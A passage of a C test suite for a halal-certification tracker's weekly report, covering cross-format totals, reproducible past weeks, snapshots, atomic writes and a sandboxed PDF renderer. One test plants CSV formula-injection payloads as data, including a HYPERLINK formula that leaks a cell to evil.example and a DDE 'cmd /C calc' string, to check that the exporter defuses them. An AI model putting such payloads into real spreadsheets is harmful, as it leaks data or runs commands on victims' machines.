/* The weekly report on a fixed history: golden outputs, identical totals across formats,
 * exact regeneration of a past week after later observations, report_run records. */
#include <jansson.h>
#include "report_fixture.h"
#include "halaltrack/csv.h"
#include "csv_mem.h"
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

static void setup(void)
{
    pgt_open();
    rf_load_history();
}

static void teardown(void)
{
    pgt_close();
}

TestSuite(report_weekly, .init = setup, .fini = teardown);

static char *weekly(const char *now, const char *lang, const char *week,
                    const char *format)
{
    const char *args[] = {"report", "weekly", "--format", format, week ? "--week" : NULL,
                          week,     NULL};
    struct tu_result r = rf_run(now, lang, args);
    char *out;

    cr_assert_eq(r.status, 0, "report weekly --format %s failed: %s", format, r.err);
    cr_assert(strstr(r.err, "hash"), "no hash on stderr: %s", r.err);
    out = r.out;
    r.out = NULL;
    tu_result_release(&r);
    return out;
}

/* report weekly --week week --format format [extra], in English, at now. */
static struct tu_result run_week(const char *now, const char *week, const char *format,
                                 const char *extra)
{
    const char *args[] = {"report",   "weekly", "--week", week,
                          "--format", format,   extra,    NULL};
    struct tu_result r = rf_run(now, "en", args);

    cr_assert_eq(r.status, 0, "report weekly %s %s failed: %s", week, extra ? extra : "",
                 r.err);
    return r;
}

Test(report_weekly, golden_outputs)
{
    static const struct {
        const char *lang, *format, *golden;
    } cases[] = {
        {"id", "text", "weekly_2026-W01_id.txt"},
        {"en", "text", "weekly_2026-W01_en.txt"},
        {"en", "csv", "weekly_2026-W01.csv"},
        {"en", "json", "weekly_2026-W01.json"},
        {"id", "html", "weekly_2026-W01_id.html"},
    };

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *out = weekly(RF_NOW, cases[i].lang, NULL, cases[i].format);
        rf_golden(cases[i].golden, out);
        free(out);
    }
}

/* The figures every format must agree on. */
struct totals {
    long certified_week, certified_total, stuck_total, quarantined, unmatched;
    long actions_total, mandatory_small;
    long moves[5];
    long funnel_submitted, funnel_certified, funnel_returned, funnel_rejected;
    char hash[65];
};

static long after(const char *hay, const char *needle)
{
    const char *p = strstr(hay, needle);

    cr_assert(p, "'%s' not found in:\n%s", needle, hay);
    p += strlen(needle);
    while (*p == ' ' || *p == ':' || *p == '>' || *p == '"' || *p == ',')
        p++;
    return strtol(p, NULL, 10);
}

static void hash_after(const char *hay, const char *needle, char out[65])
{
    const char *p = strstr(hay, needle);

    cr_assert(p, "'%s' not found", needle);
    p += strlen(needle);
    while (*p == ' ' || *p == ':' || *p == '"' || *p == '>' || *p == ',')
        p++;
    memcpy(out, p, 64);
    out[64] = '\0';
}

static struct totals from_text(const char *t)
{
    struct totals x = {0};
    const char *f;

    x.certified_week = after(t, "Certified this week");
    x.certified_total = after(t, "Certified in total");
    x.stuck_total = after(t, "Stuck past the legal limit (oldest first)");
    x.actions_total = after(t, "Action list: files waiting on the business or the payer");
    x.mandatory_small = after(t, "days left.");
    x.quarantined = after(t, "Quarantined records");
    x.unmatched = after(t, "Unmatched NIBs (not in register)");
    x.moves[0] = after(t, "\nNew applications");
    x.moves[1] = after(t, "\nStage advances");
    x.moves[2] = after(t, "\nCertificates issued");
    x.moves[3] = after(t, "\nReturns");
    x.moves[4] = after(t, "\nRejections/cancellations");
    /* Funnel rows: label, reguler, self-declare, other, total, last week. */
    f = strstr(t, "== Funnel");
    cr_assert(f);
    {
        long a, b, c;
        const char *p = strstr(f, "\nSubmitted");
        cr_assert(
            p && sscanf(p + 10, "%ld %ld %ld %ld", &a, &b, &c, &x.funnel_submitted) == 4);
        p = strstr(f, "\nHalal certified");
        cr_assert(
            p && sscanf(p + 16, "%ld %ld %ld %ld", &a, &b, &c, &x.funnel_certified) == 4);
        p = strstr(f, "\nReturned for revision");
        cr_assert(p &&
                  sscanf(p + 22, "%ld %ld %ld %ld", &a, &b, &c, &x.funnel_returned) == 4);
        p = strstr(f, "\nRejected");
        cr_assert(p &&
                  sscanf(p + 9, "%ld %ld %ld %ld", &a, &b, &c, &x.funnel_rejected) == 4);
    }
    hash_after(t, "Totals hash", x.hash);
    return x;
}

static long csv_value(const char *t, const char *section_key)
{
    char needle[128];

    snprintf(needle, sizeof(needle), "\n%s,", section_key);
    return after(t, needle);
}

static struct totals from_csv(const char *t)
{
    struct totals x = {0};

    x.certified_week = csv_value(t, "headline,certified_week");
    x.certified_total = csv_value(t, "headline,certified_total");
    x.stuck_total = csv_value(t, "stuck,total");
    x.actions_total = csv_value(t, "actions,total");
    x.mandatory_small = csv_value(t, "mandatory,small_not_certified");
    x.quarantined = csv_value(t, "quality,quarantined");
    x.unmatched = csv_value(t, "quality,unmatched");
    x.moves[0] = csv_value(t, "movers,new");
    x.moves[1] = csv_value(t, "movers,advance");
    x.moves[2] = csv_value(t, "movers,certified");
    x.moves[3] = csv_value(t, "movers,returned");
    x.moves[4] = csv_value(t, "movers,rejected");
    x.funnel_submitted = csv_value(t, "funnel,submitted.total");
    x.funnel_certified = csv_value(t, "funnel,certified.total");
    x.funnel_returned = csv_value(t, "funnel,returned.total");
    x.funnel_rejected = csv_value(t, "funnel,rejected.total");
    hash_after(t, "report,hash,0,,,,,,,,", x.hash);
    return x;
}

static long jget(json_t *root, const char *obj, const char *key)
{
    json_t *o = json_object_get(root, obj);
    json_t *v = o ? json_object_get(o, key) : NULL;

    cr_assert(json_is_integer(v), "%s.%s missing", obj, key);
    return (long)json_integer_value(v);
}

static long jfunnel(json_t *root, const char *stage)
{
    json_t *arr = json_object_get(root, "funnel"), *row;
    size_t i;

    json_array_foreach(arr, i, row)
    {
        if (strcmp(json_string_value(json_object_get(row, "stage")), stage) == 0)
            return (long)json_integer_value(json_object_get(row, "total"));
    }
    cr_assert_fail("stage %s not in the JSON funnel", stage);
    return -1;
}

static struct totals from_json(const char *t)
{
    struct totals x = {0};
    json_error_t je;
    json_t *root = json_loads(t, 0, &je);

    cr_assert(root, "report JSON does not parse: %s", je.text);
    x.certified_week = jget(root, "headline", "certified_week");
    x.certified_total = jget(root, "headline", "certified_total");
    x.stuck_total = jget(root, "stuck", "total");
    x.actions_total = jget(root, "actions", "total");
    x.mandatory_small = jget(root, "mandatory", "small_not_certified");
    x.quarantined = jget(root, "quality", "quarantined");
    x.unmatched = jget(root, "quality", "unmatched");
    x.moves[0] = jget(root, "movers", "new");
    x.moves[1] = jget(root, "movers", "advance");
    x.moves[2] = jget(root, "movers", "certified");
    x.moves[3] = jget(root, "movers", "returned");
    x.moves[4] = jget(root, "movers", "rejected");
    x.funnel_submitted = jfunnel(root, "submitted");
    x.funnel_certified = jfunnel(root, "certified");
    x.funnel_returned = jfunnel(root, "returned");
    x.funnel_rejected = jfunnel(root, "rejected");
    snprintf(x.hash, sizeof(x.hash), "%s",
             json_string_value(json_object_get(root, "totals_hash")));
    json_decref(root);
    return x;
}

static long html_funnel(const char *t, const char *stage)
{
    char needle[64];
    const char *p;
    long v[5];

    snprintf(needle, sizeof(needle), "data-stage=\"%s\">", stage);
    p = strstr(t, needle);
    cr_assert(p, "no funnel row for %s", stage);
    for (int i = 0; i < 5; i++) {
        p = strstr(p, "<td class=\"n\">");
        cr_assert(p);
        p += strlen("<td class=\"n\">");
        v[i] = strtol(p, NULL, 10);
    }
    return v[3];
}

static const char *anchor(const char *hay, const char *needle)
{
    const char *p = strstr(hay, needle);

    cr_assert(p, "'%s' not found in the HTML", needle);
    return p;
}

static struct totals from_html(const char *t)
{
    struct totals x = {0};

    x.certified_week = after(t, "id=\"certified-week\"");
    x.certified_total = after(t, "id=\"certified-total\"");
    x.stuck_total = after(t, "id=\"stuck-total\"");
    x.actions_total = after(t, "id=\"actions-total\"");
    x.mandatory_small = after(t, "data-left=");
    x.moves[0] = after(anchor(t, "data-move=\"new\">"), ":");
    x.moves[1] = after(anchor(t, "data-move=\"advance\">"), ":");
    x.moves[2] = after(anchor(t, "data-move=\"certified\">"), ":");
    x.moves[3] = after(anchor(t, "data-move=\"returned\">"), ":");
    x.moves[4] = after(anchor(t, "data-move=\"rejected\">"), ":");
    x.quarantined = after(anchor(t, "Quarantined records"), "<td class=\"n\">");
    x.unmatched = after(anchor(t, "Applications whose NIB is not in the register"),
                        "<td class=\"n\">");
    x.funnel_submitted = html_funnel(t, "submitted");
    x.funnel_certified = html_funnel(t, "certified");
    x.funnel_returned = html_funnel(t, "returned");
    x.funnel_rejected = html_funnel(t, "rejected");
    hash_after(t, "id=\"totals-hash\"", x.hash);
    return x;
}

static void same(const struct totals *a, const struct totals *b, const char *what)
{
    cr_assert_eq(a->certified_week, b->certified_week, "%s: certified_week", what);
    cr_assert_eq(a->certified_total, b->certified_total, "%s: certified_total", what);
    cr_assert_eq(a->stuck_total, b->stuck_total, "%s: stuck_total", what);
    cr_assert_eq(a->actions_total, b->actions_total, "%s: actions_total", what);
    cr_assert_eq(a->mandatory_small, b->mandatory_small, "%s: mandatory", what);
    cr_assert_eq(a->quarantined, b->quarantined, "%s: quarantined", what);
    cr_assert_eq(a->unmatched, b->unmatched, "%s: unmatched", what);
    for (int i = 0; i < 5; i++)
        cr_assert_eq(a->moves[i], b->moves[i], "%s: moves[%d]", what, i);
    cr_assert_eq(a->funnel_submitted, b->funnel_submitted, "%s: funnel submitted", what);
    cr_assert_eq(a->funnel_certified, b->funnel_certified, "%s: funnel certified", what);
    cr_assert_eq(a->funnel_returned, b->funnel_returned, "%s: funnel returned", what);
    cr_assert_eq(a->funnel_rejected, b->funnel_rejected, "%s: funnel rejected", what);
    cr_assert_str_eq(a->hash, b->hash, "%s: hash", what);
}

Test(report_weekly, every_format_carries_identical_totals)
{
    char *text = weekly(RF_NOW, "en", "2026-W01", "text");
    char *csv = weekly(RF_NOW, "en", "2026-W01", "csv");
    char *js = weekly(RF_NOW, "en", "2026-W01", "json");
    char *html = weekly(RF_NOW, "en", "2026-W01", "html");
    struct totals t = from_text(text), c = from_csv(csv), j = from_json(js),
                  h = from_html(html);

    /* The fixture's known figures: A1 certified in the week, A8 the week before. */
    cr_assert_eq(j.certified_week, 1);
    cr_assert_eq(j.certified_total, 2);
    /* Stuck at the week's end: A2's inspection and A4's verification; A6 (CH004, OF10)
     * waits for the business's payment, which runs no legal clock. */
    cr_assert_eq(j.stuck_total, 2);
    /* On the office's action list at the week's end: A3 returned (31 Dec), A6 paying. */
    cr_assert_eq(j.actions_total, 2);
    /* F&B MSMEs of the register not certified on 4 January 2026: 6 minus A1's and A8's.
     */
    cr_assert_eq(j.mandatory_small, 4);
    cr_assert_eq(j.moves[0], 1);
    cr_assert_eq(j.moves[3], 1);
    cr_assert_eq(j.moves[4], 1);
    cr_assert_eq(j.unmatched, 1);
    cr_assert_eq(j.quarantined, 1);
    same(&t, &j, "text vs json");
    same(&c, &j, "csv vs json");
    same(&h, &j, "html vs json");
    free(text), free(csv), free(js), free(html);
}

/* The weekly report reads its action list from its own copy of the week's steps: the
 * same rows, order and ages as action_list_at(end of week, its Sunday). */
Test(report_weekly, action_list_is_action_list_at_the_weeks_end)
{
    char *js = weekly(RF_NOW, "en", "2026-W01", "json");
    json_error_t e;
    json_t *root = json_loads(js, 0, &e), *list;
    char got[512] = "";
    char *want;
    size_t i;
    json_t *row;

    cr_assert_not_null(root, "%s", e.text);
    list = json_object_get(root, "action_list");
    cr_assert(json_is_array(list));
    json_array_foreach(list, i, row)
    {
        char one[96];

        snprintf(one, sizeof(one), "%s%s:%s:%lld:%s", i ? ";" : "",
                 json_string_value(json_object_get(row, "id_reg")),
                 json_string_value(json_object_get(row, "reason")),
                 (long long)json_integer_value(json_object_get(row, "age_days")),
                 json_string_value(json_object_get(row, "since")));
        strncat(got, one, sizeof(got) - strlen(got) - 1);
    }
    want = pgt_str(
        "SELECT string_agg(x.id_reg || ':' || x.reason || ':' || x.days || ':'"
        " || to_char(x.since AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"'),"
        " ';' ORDER BY x.days DESC, x.since, x.id_reg)"
        " FROM action_list_at('2026-01-04T17:00:00Z', '2026-01-04') x");
    cr_assert_str_eq(got, want);
    cr_assert_eq(i, 2);
    json_decref(root);
    free(want), free(js);
}

Test(report_weekly, past_week_is_regenerated_exactly_after_later_events)
{
    char *before = weekly(RF_NOW, "en", "2026-W01", "json");
    char *after_json, *w02;
    struct totals b = from_json(before), a, n;

    /* Later observations: one event after the week, one inside the week but learnt after
     * it ended (A3 resubmitted on 2 January, seen on 6 January), and a new application
     * whose submission falls inside the week but was first seen later. */
    pgt_exec(
        "INSERT INTO stage_event (application_id, status_code, stage, at, observed_at)"
        " SELECT id, 'OF15', 'verification', '2026-01-05 09:00+07', '2026-01-05 10:00+07'"
        " FROM application WHERE id_reg = 'A4';"
        "INSERT INTO stage_event (application_id, status_code, stage, at, observed_at)"
        " SELECT id, 'OF10', 'submitted', '2026-01-02 09:00+07', '2026-01-06 08:00+07'"
        " FROM application WHERE id_reg = 'A3';"
        "INSERT INTO application (id_reg, no_daftar, tgl_daftar, nib, msme_id, "
        "channel_id,"
        " status_code, stage, stage_since, first_seen_at, observed_at)"
        " SELECT 'A10', 'SH2026-1-000010', '2026-01-03 09:00+07', nib, id, 'CH003', "
        "'OF10',"
        " 'submitted', '2026-01-03 09:00+07', '2026-01-06 08:00+07', '2026-01-06 "
        "08:00+07'"
        " FROM msme WHERE nib = '3575030000006';"
        "INSERT INTO stage_event (application_id, status_code, stage, at, observed_at)"
        " SELECT id, 'OF10', 'submitted', '2026-01-03 09:00+07', '2026-01-06 08:00+07'"
        " FROM application WHERE id_reg = 'A10';"
        "UPDATE application SET status_code = 'OF15', stage = 'verification',"
        " stage_since = '2026-01-05 09:00+07' WHERE id_reg = 'A4';"
        "UPDATE application SET status_code = 'OF10', stage = 'submitted',"
        " stage_since = '2026-01-02 09:00+07' WHERE id_reg = 'A3';");
    after_json = weekly("2026-01-14T10:00:00+07:00", "en", "2026-W01", "json");
    a = from_json(after_json);
    same(&b, &a, "W01 before vs after later events");
    cr_assert_str_eq(before, after_json, "the regenerated report differs");
    /* Not only the stored copy: rebuilt from the history, the bytes are the same. */
    {
        struct tu_result r =
            run_week("2026-01-14T10:00:00+07:00", "2026-W01", "json", "--recompute");

        cr_assert_str_eq(r.out, before, "recomputed after later events");
        cr_assert(strstr(r.err, "identical to the stored report"), "%s", r.err);
        tu_result_release(&r);
    }

    /* The next week sees what was learnt: A3 is no longer returned. */
    w02 = weekly("2026-01-14T10:00:00+07:00", "en", "2026-W02", "json");
    n = from_json(w02);
    cr_assert_eq(n.funnel_returned, 0);
    cr_assert_eq(n.funnel_submitted, b.funnel_submitted + 2,
                 "A3 resubmitted and A10 new");
    cr_assert_str_neq(n.hash, b.hash);

    /* Every generation is recorded with the same hash for the same week. */
    cr_assert_eq(pgt_long("SELECT count(*) FROM report_run WHERE period = '2026-W01'"),
                 3);
    cr_assert_eq(pgt_long("SELECT count(DISTINCT totals_hash) FROM report_run"
                          " WHERE period = '2026-W01'"),
                 1);
    {
        char *h = pgt_str(
            "SELECT totals_hash FROM report_run WHERE period = '2026-W01' LIMIT 1");
        cr_assert_str_eq(h, b.hash);
        free(h);
    }
    cr_assert_eq(pgt_long("SELECT count(*) FROM report_run WHERE period = '2026-W01'"
                          " AND as_of = '2026-01-05 00:00+07' AND totals ? 'stuck'"),
                 3);
    free(before), free(after_json), free(w02);
}

Test(report_weekly, bad_week_and_format)
{
    const char *a1[] = {"report", "weekly", "--week", "2026-W60", NULL};
    const char *a2[] = {"report", "weekly", "--format", "docx", NULL};
    const char *a3[] = {"report", "weekly", "--week", "2026-W05", NULL};
    struct tu_result r = rf_run(RF_NOW, "en", a1);

    cr_assert_eq(r.status, 2, "%s", r.err);
    cr_assert(strstr(r.err, "2026-W60"), "%s", r.err);
    tu_result_release(&r);
    r = rf_run(RF_NOW, "en", a2);
    cr_assert_eq(r.status, 2);
    cr_assert(strstr(r.err, "unknown format 'docx'"), "%s", r.err);
    tu_result_release(&r);
    r = rf_run(RF_NOW, "en", a3);
    cr_assert_eq(r.status, 2);
    cr_assert(strstr(r.err, "not complete"), "%s", r.err);
    tu_result_release(&r);
}

Test(report_weekly, pdf_without_chromium_names_the_package)
{
    static char schema_env[128];
    const char *argv[] = {
        tu_bin("cli/halaltrack"), "report", "weekly", "--format", "pdf", "-o",
        "/tmp/never.pdf",         NULL};
    const char *env[] = {schema_env, "HALALTRACK_NOW=" RF_NOW,
                         "HALALTRACK_CHROMIUM=/nonexistent/chromium", NULL};
    struct tu_result r;

    snprintf(schema_env, sizeof(schema_env), "HALALTRACK_SCHEMA=%s", pgt_schema());
    r = tu_run(argv, env, NULL, 60);
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert(strstr(r.err, "chromium"), "%s", r.err);
    tu_result_release(&r);
}

/* Issue 10, item 9 (CSV formula injection): business names typed by an MSME or taken
 * from upstream reach the weekly CSV. A spreadsheet must see them as text: a single
 * quote in front of every field that starts like a formula, numbers left alone. */
Test(report_weekly, csv_formula_injection_is_defused)
{
    static const char *const hostile =
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
    char *out, sql[256];
    struct csv_mem m;
    struct csv_reader *r;
    struct csv_record rec;
    struct ht_err err = HT_ERR_INIT;
    int seen = 0;

    snprintf(sql, sizeof(sql),
             "UPDATE msme SET business_name = '%s' WHERE nib = '3575010000002'", hostile);
    pgt_exec(sql);
    pgt_exec("UPDATE application SET nama_pu = '@SUM(1+1)*cmd|'' /C calc''!A0'"
             " WHERE id_reg = 'A6'");
    pgt_exec("UPDATE msme SET business_name = '-2+3' WHERE nib = '3575020000004'");
    out = weekly(RF_NOW, "en", NULL, "csv");
    cr_assert(strstr(out, "\"'=HYPERLINK(\"\"http://evil.example/"), "%s", out);
    cr_assert_eq(csv_mem_open(&m, out, strlen(out), NULL), 0);
    r = m.r;
    while (csv_next(r, &rec, &err) == CSV_OK) {
        for (size_t i = 0; i < rec.nfields; i++) {
            const char *f = rec.fields[i];

            if (i == 2) /* value: a number, may be negative */
                continue;
            cr_assert(!strchr("=+-@\t\r", f[0]) || !f[0],
                      "line %lu field %zu starts like a formula: %s", rec.line, i, f);
            seen += f[0] == '\'' && strchr("=+-@", f[1]);
        }
    }
    cr_assert_geq(seen, 2, "the hostile names are in the sheet, defused:\n%s", out);
    csv_mem_close(&m);
    free(out);
}

/* Runs `halaltrack report weekly ARGS` under /bin/sh with a shell prefix (ulimit...). */
static struct tu_result run_in_sh(const char *prefix, const char *const *args,
                                  const char *const *extra_env)
{
    static char schema_env[128], script[512];
    const char *argv[16];
    const char *env[8];
    int n = 0, e = 0;

    snprintf(schema_env, sizeof(schema_env), "HALALTRACK_SCHEMA=%s", pgt_schema());
    snprintf(script, sizeof(script), "%s exec \"$0\" \"$@\"", prefix);
    argv[n++] = "/bin/sh";
    argv[n++] = "-c";
    argv[n++] = script;
    argv[n++] = tu_bin("cli/halaltrack");
    for (size_t i = 0; args[i] && n < 15; i++)
        argv[n++] = args[i];
    argv[n] = NULL;
    env[e++] = schema_env;
    env[e++] = "HALALTRACK_NOW=" RF_NOW;
    for (size_t i = 0; extra_env && extra_env[i] && e < 7; i++)
        env[e++] = extra_env[i];
    env[e] = NULL;
    return tu_run(argv, env, NULL, 120);
}

/* Issue 10, "the weekly report file is written in place": a write that fails half-way
 * (here the file size limit, as a full disk would) leaves the previous report whole and
 * no temporary file behind. */
Test(report_weekly, failed_write_leaves_the_old_file_intact)
{
    char dir[] = "/tmp/ht_weekly_XXXXXX", path[256], *text;
    const char *args[] = {"report", "weekly", "--format", "html", "-o", path, NULL};
    struct tu_result r;
    FILE *fp;
    int files = 0;
    DIR *d;
    struct dirent *ent;

    cr_assert(mkdtemp(dir));
    snprintf(path, sizeof(path), "%s/weekly.html", dir);
    fp = fopen(path, "w");
    cr_assert(fp);
    fputs("last week's report\n", fp);
    fclose(fp);
    /* 2 blocks of 512 bytes: the HTML report is larger. SIGXFSZ ignored: write() fails.
     */
    r = run_in_sh("trap '' XFSZ; ulimit -f 2;", args, NULL);
    cr_assert_eq(r.status, 1, "exit %d: %s", r.status, r.err);
    cr_assert(strstr(r.err, "weekly.html"), "%s", r.err);
    tu_result_release(&r);
    text = tu_read_file(path, NULL);
    cr_assert_str_eq(text, "last week's report\n");
    free(text);
    d = opendir(dir);
    cr_assert(d);
    while ((ent = readdir(d)))
        files += strcmp(ent->d_name, ".") != 0 && strcmp(ent->d_name, "..") != 0;
    closedir(d);
    cr_assert_eq(files, 1, "a temporary file was left in %s", dir);
    /* And without the limit the file is replaced. */
    r = run_in_sh("", args, NULL);
    cr_assert_eq(r.status, 0, "%s", r.err);
    tu_result_release(&r);
    text = tu_read_file(path, NULL);
    cr_assert(strstr(text, "<!DOCTYPE html>"));
    free(text);
    unlink(path);
    rmdir(dir);
}

/* Issue 10, "report --format pdf runs Chromium with the full environment": the browser
 * gets an absolute path and a minimal environment, never the database password, and the
 * temporary directory is removed without running rm. A stand-in for Chromium records
 * what it got and writes a PDF. */
Test(report_weekly, pdf_child_gets_a_minimal_environment)
{
    char dir[] = "/tmp/ht_pdf_XXXXXX", fake[256], envfile[256], argsfile[256], pdf[256];
    char script[2048], chrom_env[300], *got, *profile, *end;
    const char *args[] = {"report", "weekly", "--format", "pdf", "-o", pdf, NULL};
    const char *extra[] = {chrom_env, "PGPASSWORD=Sekali99", "API_TOKEN=tok-123", NULL};
    struct tu_result r;
    struct stat st;
    FILE *fp;

    cr_assert(mkdtemp(dir));
    snprintf(fake, sizeof(fake), "%s/chromium", dir);
    snprintf(envfile, sizeof(envfile), "%s/env.txt", dir);
    snprintf(argsfile, sizeof(argsfile), "%s/args.txt", dir);
    snprintf(pdf, sizeof(pdf), "%s/weekly.pdf", dir);
    snprintf(
        script, sizeof(script),
        "#!/bin/sh\n"
        "/usr/bin/env > '%s'\n"
        "for a; do\n"
        "  echo \"$a\" >> '%s'\n"
        "  case $a in --print-to-pdf=*) printf '%%%%PDF-1.4 fake\\n' > \"${a#*=}\";; "
        "esac\n"
        "done\n",
        envfile, argsfile);
    fp = fopen(fake, "w");
    cr_assert(fp);
    fputs(script, fp);
    fclose(fp);
    chmod(fake, 0755);
    snprintf(chrom_env, sizeof(chrom_env), "HALALTRACK_CHROMIUM=%s", fake);
    r = run_in_sh("", args, extra);
    cr_assert_eq(r.status, 0, "%s", r.err);
    tu_result_release(&r);
    got = tu_read_file(pdf, NULL);
    cr_assert(got && strncmp(got, "%PDF-1.4 fake", 13) == 0, "%s", got ? got : "(none)");
    free(got);
    got = tu_read_file(envfile, NULL);
    cr_assert(got, "the stand-in did not run");
    cr_assert_null(strstr(got, "PGPASSWORD"), "%s", got);
    cr_assert_null(strstr(got, "Sekali99"), "%s", got);
    cr_assert_null(strstr(got, "API_TOKEN"), "%s", got);
    cr_assert_null(strstr(got, "HALALTRACK_SCHEMA"), "%s", got);
    cr_assert(strstr(got, "PATH=/usr/bin:/bin\n"), "%s", got);
    cr_assert(strstr(got, "HOME=/tmp/halaltrack-report."), "%s", got);
    free(got);
    /* The private temporary directory (the profile's parent) is gone. */
    got = tu_read_file(argsfile, NULL);
    cr_assert(got);
    profile = strstr(got, "--user-data-dir=");
    cr_assert(profile, "%s", got);
    profile += strlen("--user-data-dir=");
    end = strstr(profile, "/profile");
    cr_assert(end, "%s", got);
    *end = '\0';
    cr_assert_neq(stat(profile, &st), 0, "%s was left behind", profile);
    free(got);
    unlink(fake);
    unlink(envfile);
    unlink(argsfile);
    unlink(pdf);
    rmdir(dir);
}

/* Every section is as known at the week's end (observed_at): events, applications,
 * extensions, quarantine and sync runs learnt after it change no byte of any format of
 * the week, rebuilt from the history (--recompute), not only the stored copy. */
Test(report_weekly, late_observations_change_no_byte_of_any_format)
{
    static const char *const fmts[] = {"text", "csv", "json", "html"};
    const char *later = "2026-01-20T10:00:00+07:00";
    char *before[4];

    for (int i = 0; i < 4; i++)
        before[i] = weekly(RF_NOW, "en", "2026-W01", fmts[i]);
    /* Learnt on 10 January, all of it dated inside or before the week. */
    pgt_exec(
        "INSERT INTO stage_event (application_id, status_code, stage, at, observed_at)"
        " SELECT id, 'OF300', 'certified', '2026-01-02 09:00+07', '2026-01-10 08:00+07'"
        " FROM application WHERE id_reg = 'A4';"
        "INSERT INTO stage_event (application_id, status_code, stage, at, observed_at)"
        " SELECT id, 'OF290', 'rejected', '2025-12-30 09:00+07', '2026-01-10 08:00+07'"
        " FROM application WHERE id_reg = 'A3';"
        "INSERT INTO application (id_reg, no_daftar, tgl_daftar, nib, channel_id,"
        " status_code, stage, stage_since, first_seen_at, observed_at)"
        " VALUES ('A11', 'SH2026-1-000011', '2026-01-02 09:00+07', '9999999999999',"
        " 'CH003', 'OF10', 'submitted', '2026-01-02 09:00+07', '2026-01-10 08:00+07',"
        " '2026-01-10 08:00+07');"
        "INSERT INTO step_extension (application_id, step, days, granted_on, created_at)"
        " SELECT id, 'inspection', 5, '2026-01-02', '2026-01-10 08:00+07'"
        " FROM application WHERE id_reg = 'A2';"
        "INSERT INTO quarantine (source, ref, reason, raw, created_at)"
        " VALUES ('detail', 'late', 'x', 'y', '2026-01-10 08:00+07');"
        "UPDATE application SET detail_denied_at = '2026-01-10 08:00+07'"
        " WHERE id_reg = 'A5'");
    for (int i = 0; i < 4; i++) {
        struct tu_result r = run_week(later, "2026-W01", fmts[i], "--recompute");

        cr_assert_str_eq(r.out, before[i], "%s changed after later observations",
                         fmts[i]);
        cr_assert(strstr(r.err, "identical to the stored report"), "%s: %s", fmts[i],
                  r.err);
        tu_result_release(&r);
        free(before[i]);
    }
}

/* A closed week is stored once and returned as stored: a later change of the register,
 * the goals or the calendar does not change it; --recompute says that the history now
 * gives other bytes and why, keeps the record unless --replace. */
Test(report_weekly, closed_week_is_stored_once_and_returned_as_stored)
{
    const char *later = "2026-01-20T10:00:00+07:00";
    char *first = weekly(RF_NOW, "en", "2026-W01", "json");
    char *again, *stored, *h;
    struct tu_result r;

    cr_assert_eq(pgt_long("SELECT count(*) FROM weekly_snapshot WHERE week = '2026-W01'"
                          " AND format = 'json' AND lang = 'en' AND scope = 'kota'"),
                 1);
    stored = pgt_str("SELECT body FROM weekly_snapshot WHERE week = '2026-W01'");
    cr_assert_str_eq(stored, first, "the stored bytes are the bytes printed");
    pgt_exec("UPDATE msme SET business_name = 'Renamed' WHERE nib = '3575010000002';"
             "DELETE FROM goal;"
             "INSERT INTO holiday (day, name, kind) VALUES ('2025-12-31', 'x', "
             "'libur_nasional')"
             " ON CONFLICT DO NOTHING");
    again = weekly(later, "en", "2026-W01", "json");
    cr_assert_str_eq(again, first, "a stored week is returned as stored");
    /* report_run records both runs, with the stored hash. */
    h = pgt_str("SELECT string_agg(DISTINCT totals_hash, ',') FROM report_run"
                " WHERE period = '2026-W01' AND format = 'json'");
    cr_assert_eq(pgt_long("SELECT count(*) FROM report_run WHERE period = '2026-W01'"),
                 2);
    cr_assert(strstr(first, h), "report_run's hash %s is the report's", h);

    r = run_week(later, "2026-W01", "json", "--recompute");
    cr_assert_str_neq(r.out, first, "the history gives other bytes now");
    cr_assert(strstr(r.err, "differs from the report stored 2026-"), "%s", r.err);
    cr_assert(strstr(r.err, "totals that differ: goals"), "%s", r.err);
    cr_assert(strstr(r.err, "--replace"), "%s", r.err);
    tu_result_release(&r);
    free(again);
    again = weekly(later, "en", "2026-W01", "json");
    cr_assert_str_eq(again, first, "--recompute alone keeps the stored report");
    free(again);

    {
        const char *args[] = {"report",   "weekly",      "--week",
                              "2026-W01", "--recompute", "--replace",
                              "--format", "json",        NULL};
        struct tu_result x = rf_run(later, "en", args);
        char *now_stored;

        cr_assert_eq(x.status, 0, "%s", x.err);
        cr_assert(strstr(x.err, "replaced"), "%s", x.err);
        now_stored = pgt_str("SELECT body FROM weekly_snapshot WHERE week = '2026-W01'");
        cr_assert_str_eq(now_stored, x.out, "the recomputed report is stored");
        cr_assert_eq(pgt_long("SELECT replaced FROM weekly_snapshot"
                              " WHERE week = '2026-W01'"),
                     1);
        again = weekly(later, "en", "2026-W01", "json");
        cr_assert_str_eq(again, x.out, "the replaced report is returned from then on");
        free(again);
        free(now_stored);
        tu_result_release(&x);
    }
    free(first), free(stored), free(h);
}

/* The key: each format and language is stored apart; a week that ended less than
 * WEEKLY_SETTLE_SECONDS ago is not stored (a writer's transaction begun before its end
 * may still commit events observed before it); the office's name is part of the key. */
Test(report_weekly, what_is_stored_and_when)
{
    const char *fresh = "2026-01-05T00:30:00+07:00"; /* W01 ended 30 minutes ago */
    struct tu_result r = run_week(fresh, "2026-W01", "text", NULL);
    char *a, *b;

    tu_result_release(&r);
    cr_assert_eq(pgt_long("SELECT count(*) FROM weekly_snapshot"), 0,
                 "a week that ended 30 minutes ago is not stored");
    /* Nor a week that HALALTRACK_NOW calls closed while the database's clock has not
     * reached its end yet. */
    r = run_week("2099-01-14T10:00:00+07:00", "2099-W01", "text", NULL);
    tu_result_release(&r);
    cr_assert_eq(pgt_long("SELECT count(*) FROM weekly_snapshot"), 0,
                 "a week in the database's future is not stored");
    a = weekly(RF_NOW, "en", "2026-W01", "text");
    b = weekly(RF_NOW, "id", "2026-W01", "text");
    free(weekly(RF_NOW, "en", "2026-W01", "csv"));
    cr_assert_eq(pgt_long("SELECT count(*) FROM weekly_snapshot"), 3);
    pgt_exec("INSERT INTO setting (key, value) VALUES ('office_name', 'Dinas Baru')"
             " ON CONFLICT (key) DO UPDATE SET value = EXCLUDED.value");
    free(b);
    b = weekly(RF_NOW, "en", "2026-W01", "text");
    cr_assert(strncmp(b, "Dinas Baru\n", 11) == 0, "%s", b);
    cr_assert_eq(pgt_long("SELECT count(*) FROM weekly_snapshot"), 4);
    {
        const char *args[] = {"report", "weekly", "--replace", NULL};
        struct tu_result x = rf_run(RF_NOW, "en", args);

